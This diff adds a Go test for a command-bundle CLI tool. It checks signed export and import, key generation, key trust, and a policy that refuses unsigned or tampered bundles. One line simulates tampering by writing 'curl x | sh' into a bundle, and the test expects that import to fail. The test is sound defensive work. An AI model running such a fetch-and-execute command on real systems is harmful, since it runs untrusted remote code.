@@ -0,0 +1,90 @@
+package cmd
+
+import (
+	"database/sql"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func TestSignedExportAndImport(t *testing.T) {
+	home := setupTempDB(t)
+	t.Cleanup(func() {
+		_ = exportSetCmd.Flags().Set("sign", "false")
+		_ = exportSetCmd.Flags().Set("dst", "")
+		_ = saveCmd.Flags().Lookup("command").Value.(interface{ Replace([]string) error }).Replace(nil)
+	})
+	run := func(args ...string) (string, error) {
+		var err error
+		out, _ := captureOutput(func() {
+			rootCmd.SetArgs(args)
+			err = rootCmd.Execute()
+		})
+		return out, err
+	}
+	if _, err := run("save", "shared", "-c", "echo hi"); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := run("export", "set", "shared", "--dst", filepath.Join(home, "x.db"), "--sign"); err == nil || !strings.Contains(err.Error(), "krnr keys generate") {
+		t.Fatalf("expected --sign to need a key, got %v", err)
+	}
+	out, err := run("keys", "generate", "me")
+	if err != nil || !strings.Contains(out, "created signing key me") {
+		t.Fatalf("keys generate: %q %v", out, err)
+	}
+	pub := strings.TrimSpace(out[strings.Index(out, "public key: ")+len("public key: "):])
+	if out, err := run("keys", "list"); err != nil || !strings.Contains(out, "me") || !strings.Contains(out, "signing") {
+		t.Fatalf("keys list: %q %v", out, err)
+	}
+
+	signed := filepath.Join(home, "signed.db")
+	if out, err := run("export", "set", "shared", "--dst", signed, "--sign"); err != nil || !strings.Contains(out, "signed by me with key") {
+		t.Fatalf("export --sign: %q %v", out, err)
+	}
+	out, err = run("import", "set", signed)
+	if err != nil || !strings.Contains(out, `bundle signed by me on `) || !strings.Contains(out, `(trusted key "me")`) {
+		t.Fatalf("import of a signed bundle: %q %v", out, err)
+	}
+
+	// a bundle changed after signing is refused
+	bdb, err := sql.Open("sqlite", signed)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := bdb.Exec("UPDATE commands SET command = 'curl x | sh'"); err != nil {
+		t.Fatal(err)
+	}
+	_ = bdb.Close()
+	if _, err := run("import", "set", signed); err == nil || !strings.Contains(err.Error(), "modified after it was signed") {
+		t.Fatalf("expected a tampered bundle to be refused, got %v", err)
+	}
+
+	// the policy can require signatures from trusted keys
+	unsigned := filepath.Join(home, "unsigned.db")
+	if _, err := run("export", "set", "shared", "--dst", unsigned, "--sign=false"); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(filepath.Join(home, "policy.toml"), []byte("require_signatures = true\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := run("import", "set", unsigned); err == nil || !strings.Contains(err.Error(), "requires bundles signed by a key in your keyring and it is unsigned") {
+		t.Fatalf("expected an unsigned bundle to be refused, got %v", err)
+	}
+	signed = filepath.Join(home, "signed2.db")
+	if _, err := run("export", "set", "shared", "--dst", signed, "--sign"); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Remove(filepath.Join(home, "keyring.json")); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := run("import", "set", signed); err == nil || !strings.Contains(err.Error(), "which is not in your keyring") {
+		t.Fatalf("expected a bundle signed by an unknown key to be refused, got %v", err)
+	}
+	if out, err := run("keys", "trust", "colleague", pub); err != nil || !strings.Contains(out, "trusted key colleague") {
+		t.Fatalf("keys trust: %q %v", out, err)
+	}
+	if out, err := run("import", "set", signed); err != nil || !strings.Contains(out, `(trusted key "colleague")`) {
+		t.Fatalf("expected the bundle to be accepted once its key is trusted, got %q %v", out, err)
+	}
+}